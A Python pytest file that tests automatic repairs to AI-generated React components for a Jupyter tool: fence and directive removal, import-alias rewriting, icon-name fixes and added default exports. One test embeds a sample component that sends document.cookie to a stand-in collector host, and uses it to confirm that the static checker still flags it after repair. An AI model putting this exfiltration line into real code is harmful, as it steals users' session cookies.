"""Deterministic repairs: each slip models make, the code before and after, the words the person reads, and
what a repair must never do (weaken a check, import what is not bundled, remove code, take long)."""

from __future__ import annotations

import asyncio
import re
import time
from pathlib import Path

import pytest

from jupyter_componentgen.config import engine_settings, load_settings
from jupyter_componentgen.engine.checks.static import StaticChecker
from jupyter_componentgen.engine.events import Event
from jupyter_componentgen.engine.generation import Engine, GenerationRequest
from jupyter_componentgen.engine.repairs import (
    Repaired,
    repair,
    repair_imports,
    repairing_checker,
    repairs_note,
)
from jupyter_componentgen.engine.repairs.icons import closest_icon, icon_names
from jupyter_componentgen.engine.repairs.imports import alias_target
from jupyter_componentgen.engine.runtime_modules import import_specifiers, is_bundled_specifier
from jupyter_componentgen.store import Store
from tests.provider import Script, ScriptedProvider

CORPUS = Path(__file__).resolve().parents[1] / "corpus" / "components"
FAST = 5000.0

WEATHER = """\
import { useState } from "react";

export function Weather() {
  const [unit, setUnit] = useState("C");
  return <button onClick={() => setUnit("F")}>23°{unit}</button>;
}
"""


def check(before: str, after: str, *words: str) -> None:
    """``before`` repairs to exactly ``after``, listed as ``words``; and repairing again changes nothing."""
    repaired = repair(before)
    assert repaired.code == after
    assert repaired.repairs == words
    assert repair(repaired.code).repairs == ()


# A fence and "use client" ---------------------------------------------------------------------------------


def test_a_code_fence_left_around_the_code_goes() -> None:
    body = "export default function A() {\n  return <p>Hi</p>;\n}\n"
    check(f"```tsx\n{body}```\n", body, "removed the Markdown code fences")
    check(f"\n```jsx\n\n{body}", body, "removed a Markdown code fence")
    check(f"{body}\n```\n\n", body, "removed a Markdown code fence")


def test_a_use_client_directive_goes_and_nothing_else() -> None:
    check(
        '"use client"\n\nimport { useState } from "react";\nexport default function A() { return <p/>; }\n',
        'import { useState } from "react";\nexport default function A() { return <p/>; }\n',
        'removed the `"use client"` directive',
    )
    check(
        "/** v0 by Vercel. */\n'use client';\nexport default function A() { return <p/>; }\n",
        "/** v0 by Vercel. */\nexport default function A() { return <p/>; }\n",
        "removed the `'use client'` directive",
    )
    # A string that is not a directive stays.
    check(
        '"use strict";\nexport default function A() { return <p/>; }\n',
        '"use strict";\nexport default function A() { return <p/>; }\n',
    )


# Import aliases -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("specifier", "target"),
    [
        ("./components/ui/button", "@/components/ui/button"),
        ("../../components/ui/Button.tsx", "@/components/ui/button"),
        ("@/components/ui/DropdownMenu", "@/components/ui/dropdown-menu"),
        ("@/components/ui/card.jsx", "@/components/ui/card"),
        ("src/components/ui/tabs", "@/components/ui/tabs"),
        ("@/registry/new-york/ui/dialog", "@/components/ui/dialog"),
        ("./ui/input", "@/components/ui/input"),
        ("@components/ui/badge", "@/components/ui/badge"),
        ("../lib/utils", "@/lib/utils"),
        ("@/lib/utils.ts", "@/lib/utils"),
        ("@/components/hooks/use-toast", "@/hooks/use-toast"),
        ("@radix-ui/react-tabs/dist/index.mjs", "@radix-ui/react-tabs"),
    ],
)
def test_an_import_alias_the_runtime_does_not_serve_becomes_the_bundled_name(
    specifier: str, target: str
) -> None:
    assert not is_bundled_specifier(specifier)
    assert is_bundled_specifier(target)
    before = f'import {{ Thing }} from "{specifier}";\nexport default function A() {{ return <Thing />; }}\n'
    after = before.replace(specifier, target)
    check(before, after, f"changed the import `{specifier}` to `{target}`")


@pytest.mark.parametrize(
    "specifier",
    [
        # Served already: nothing to repair.
        "@/components/ui/button",
        "~/components/ui/card",
        "components/ui/tabs",
        "@radix-ui/react-tabs",
        "@/lib/utils",
        # Not an alias of anything bundled: left for the checks to judge.
        "@repo/ui/button",
        "./ui/fancy-widget",
        "@radix-ui/react-icons",
        "axios",
        "https://esm.sh/components/ui/button",
        "//cdn.example/ui/button",
    ],
)
def test_other_imports_are_left_as_written(specifier: str) -> None:
    code = f'import {{ Thing }} from "{specifier}";\nexport default function A() {{ return <Thing />; }}\n'
    assert repair(code) == Repaired(code)
    assert alias_target(specifier) is None


def test_an_alias_is_only_ever_rewritten_to_a_bundled_module() -> None:
    code = "\n".join(
        f'import * as M{i} from "{s}";'
        for i, s in enumerate(
            ["./components/ui/Card", "../hooks/use-mobile", "src/lib/utils", "~/ui/nothing-such"]
        )
    )
    repaired = repair(code + "\n").code
    rewritten = [s for s in import_specifiers(repaired) if s != "~/ui/nothing-such"]
    assert rewritten == ["@/components/ui/card", "@/hooks/use-mobile", "@/lib/utils"]
    assert all(is_bundled_specifier(s) for s in rewritten)


# Lucide icons ---------------------------------------------------------------------------------------------


def test_the_bundled_icon_set_is_known() -> None:
    names = icon_names()
    assert len(names) > 1000
    assert {"Calendar", "CircleAlert", "AlertCircle", "Rocket", "Trash2"} <= names


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("Calender", "Calendar"),  # one letter wrong
        ("Arrowright", "ArrowRight"),  # letter case
        ("ChevronDwn", "ChevronDown"),  # one letter missing
        ("CircleAlrt", "CircleAlert"),
        ("OpenMail", "MailOpen"),  # words in another order
        ("ThumbUp", "ThumbsUp"),
    ],
)
def test_a_mistyped_icon_is_renamed_and_keeps_its_local_name(written: str, meant: str) -> None:
    assert closest_icon(written, icon_names()) == meant
    check(
        f'import {{ {written}, Sun }} from "lucide-react";\nexport default function A() {{ return <{written} />; }}\n',
        f'import {{ {meant} as {written}, Sun }} from "lucide-react";\n'
        f"export default function A() {{ return <{written} />; }}\n",
        f"changed the lucide icon `{written}` to `{meant}`",
    )


def test_an_aliased_icon_keeps_its_alias() -> None:
    check(
        'import { Calender as Cal } from "lucide-react";\nexport default function A() { return <Cal />; }\n',
        'import { Calendar as Cal } from "lucide-react";\nexport default function A() { return <Cal />; }\n',
        "changed the lucide icon `Calender` to `Calendar`",
    )


def test_an_icon_with_no_clear_match_is_left_for_the_placeholder() -> None:
    # RocketLaunch is no lucide icon, and neither Rocket nor anything else is clearly meant.
    code = 'import { RocketLaunch, type LucideIcon, LucideProps } from "lucide-react";\nexport default () => <RocketLaunch />;\n'
    assert repair(code).repairs == ()
    assert closest_icon("RocketLaunch", icon_names()) is None


# React without an import ----------------------------------------------------------------------------------


def test_react_used_as_a_value_without_an_import_is_imported() -> None:
    check(
        '// A timer.\nimport { Play } from "lucide-react";\n\nexport default function T() {\n'
        "  const [n] = React.useState(0);\n  return <Play />;\n}\n",
        '// A timer.\nimport React from "react";\nimport { Play } from "lucide-react";\n\nexport default function T() {\n'
        "  const [n] = React.useState(0);\n  return <Play />;\n}\n",
        'added `import React from "react"`',
    )
    check(
        'import { useState } from "react";\nexport default function T() { return <React.Fragment />; }\n',
        'import React, { useState } from "react";\nexport default function T() { return <React.Fragment />; }\n',
        "added `React` to the import from `react`",
    )


@pytest.mark.parametrize(
    "code",
    [
        # A type is erased when the code compiles: nothing fails.
        "const A: React.FC = () => <p />;\nexport default A;\n",
        'import * as React from "react";\nexport default function A() { return <p>{React.version}</p>; }\n',
        'import R, { useState } from "react";\nconst React = R;\nexport default () => <p>{React.version}</p>;\n',
    ],
)
def test_react_in_scope_or_only_as_a_type_needs_no_import(code: str) -> None:
    assert repair(code).repairs == ()


# A missing default export ---------------------------------------------------------------------------------


def test_the_one_exported_component_becomes_the_default() -> None:
    check(WEATHER, WEATHER + "\nexport default Weather;\n", "added `export default Weather`")


@pytest.mark.parametrize(
    ("code", "chosen"),
    [
        # export { Component } with a helper component it uses
        (
            "function Item() { return <li />; }\nfunction Component() { return <ul><Item /></ul>; }\n"
            "export { Component };\n",
            "Component",
        ),
        ("export const App = () => <div />;\nconst Helper = () => <span />;\n", "App"),
        # no export at all: the component nothing else uses
        ("function Row() { return <tr />; }\nfunction Table() { return <table><Row /></table>; }\n", "Table"),
        # icons kept in a table the main component reads
        (
            "const Sun = () => <svg />;\nconst ICONS = { sun: Sun };\nfunction Main() { const I = ICONS.sun; return <I />; }\n",
            "Main",
        ),
        (
            'import { memo } from "react";\nconst Row = memo(function Row() { return <tr />; });\nexport { Row };\n',
            "Row",
        ),
        ("export function Card() { return <div />; }\nCard.displayName = 'Card';\n", "Card"),
    ],
)
def test_the_top_component_becomes_the_default(code: str, chosen: str) -> None:
    check(code, code + f"\nexport default {chosen};\n", f"added `export default {chosen}`")


@pytest.mark.parametrize(
    "code",
    [
        "export function A() { return <p />; }\nexport function B() { return <p />; }\n",  # which one?
        "export default memo(A);\nfunction A() { return <p />; }\n",
        "function A() { return <p />; }\nexport { A as default };\n",
        "const helpers = { format: (n) => n.toFixed(2) };\nexport { helpers };\n",  # no component at all
        "export function A() { return <p> }\n",  # does not parse: the compile error says what is wrong
    ],
)
def test_no_default_export_is_guessed(code: str) -> None:
    assert repair(code).repairs == ()


# Several at once, and what repairs never do --------------------------------------------------------------


def test_a_pasted_v0_component_gets_every_repair_it_needs_in_one_pass() -> None:
    pasted = (
        '```tsx\n"use client"\n\nimport { Button } from "./components/ui/Button"\n'
        'import { Calender } from "lucide-react"\n\nexport function Booking() {\n'
        "  const [day, setDay] = React.useState(1)\n"
        "  return <Button onClick={() => setDay(day + 1)}><Calender /> Day {day}</Button>\n}\n```\n"
    )
    repaired = repair(pasted)
    assert repaired.repairs == (
        "removed the Markdown code fences",
        'removed the `"use client"` directive',
        "changed the import `./components/ui/Button` to `@/components/ui/button`",
        "changed the lucide icon `Calender` to `Calendar`",
        'added `import React from "react"`',
        "added `export default Booking`",
    )
    assert repaired.code == (
        'import React from "react";\nimport { Button } from "@/components/ui/button"\n'
        'import { Calendar as Calender } from "lucide-react"\n\nexport function Booking() {\n'
        "  const [day, setDay] = React.useState(1)\n"
        "  return <Button onClick={() => setDay(day + 1)}><Calender /> Day {day}</Button>\n}\n\n"
        "export default Booking;\n"
    )
    assert repairs_note(repaired.repairs).startswith("repaired: removed the Markdown code fences; ")
    assert repairs_note(()) == ""


def test_repairs_keep_every_line_of_code_and_never_hide_it_from_the_checks() -> None:
    hostile = 'export function Leak() {\n  fetch("https://collector.invalid/" + document.cookie);\n  return <p />;\n}\n'
    repaired = repair(hostile)
    assert repaired.repairs == ("added `export default Leak`",)
    rules = {finding.rule for finding in StaticChecker().check(repaired.code)}
    assert "banned-api" in rules
    for path in sorted(CORPUS.glob("*.[jt]sx")):
        source = path.read_text(encoding="utf-8")
        kept = repair(source).code.splitlines()
        changed_in_place = re.compile(r"""^\s*(import\b|["']use client["'])""")
        assert [
            line for line in source.splitlines() if not changed_in_place.match(line) and line not in kept
        ] == []


def test_streamed_code_is_judged_with_its_aliases_repaired_and_lines_in_place() -> None:
    checker = repairing_checker(StaticChecker())
    assert checker is not None
    assert repairing_checker(None) is None
    prefix = 'import { Button } from "./components/ui/button";\nimport { x } from "axios";\nexport function A() {\n  return <Button'
    assert repair_imports(prefix).count("\n") == prefix.count("\n")
    findings = checker(prefix)
    assert [(f.rule, f.line) for f in findings] == [("import-not-allowed", 2)], "axios stays refused"
    assert repair_imports("import { useState } from 'react';\n") == "import { useState } from 'react';\n"


def test_repairs_of_a_200_line_component_take_well_under_250_ms() -> None:
    rows = "\n".join(
        f'      <li key="{i}" className="flex gap-2"><Calender className="h-4 w-4" /> Day {i} {{React.useMemo(() => {i}, [])}}</li>'
        for i in range(180)
    )
    code = (
        '```tsx\n"use client"\nimport { useState } from "react";\nimport { Button } from "./components/ui/Button";\n'
        'import { Calender, RocketLaunch } from "lucide-react";\n\nfunction Row() { return <li />; }\n\n'
        "export function Planner() {\n  const [n, setN] = useState(0);\n  return (\n    <ul>\n"
        f"{rows}\n    </ul>\n  );\n}}\n```\n"
    )
    assert 195 <= code.count("\n") <= 210
    assert len(repair(code).repairs) == 6  # the first run also reads the icon set
    timings = []
    for _ in range(5):
        started = time.perf_counter()
        repair(code)
        timings.append(time.perf_counter() - started)
    assert min(timings) < 0.25, f"repairs took {min(timings) * 1000:.0f} ms"


# In a generation ------------------------------------------------------------------------------------------


def test_a_generation_saves_the_repaired_code_and_says_what_was_repaired(
    tmp_path: Path, llm_env: ScriptedProvider
) -> None:
    answer = WEATHER.replace(
        'from "react";\n', 'from "react";\nimport { Button } from "./components/ui/button";\n'
    )
    llm_env.enqueue(
        Script(f"A weather card.\n/// START Weather\n{answer}/// END Weather\n", tokens_per_second=FAST)
    )
    settings = load_settings(first_token_timeout=2.0, idle_timeout=2.0, total_timeout=20.0, max_retries=0)
    engine = Engine(
        engine_settings(settings), Store.for_notebook(tmp_path / "analysis.ipynb"), checker=StaticChecker()
    )
    events: list[Event] = []

    outcome = asyncio.run(engine.run(GenerationRequest("weather", "A weather card"), events.append))

    assert outcome.status == "saved", outcome.error
    assert outcome.version is not None
    words = (
        "changed the import `./components/ui/button` to `@/components/ui/button`",
        "added `export default Weather`",
    )
    assert outcome.version.repairs == words
    assert outcome.code.endswith("\nexport default Weather;\n")
    assert 'from "@/components/ui/button"' in outcome.code
    streamed = "".join(e["text"] for e in events if e["type"] == "content_block_delta")
    assert streamed == answer, "the stream passed the checks as written; the saved version is repaired"
    done = events[-1]
    assert done["phase"] == "done"
    assert done["message"].endswith(" · " + repairs_note(words))
    assert engine.store.current("weather") == outcome.version
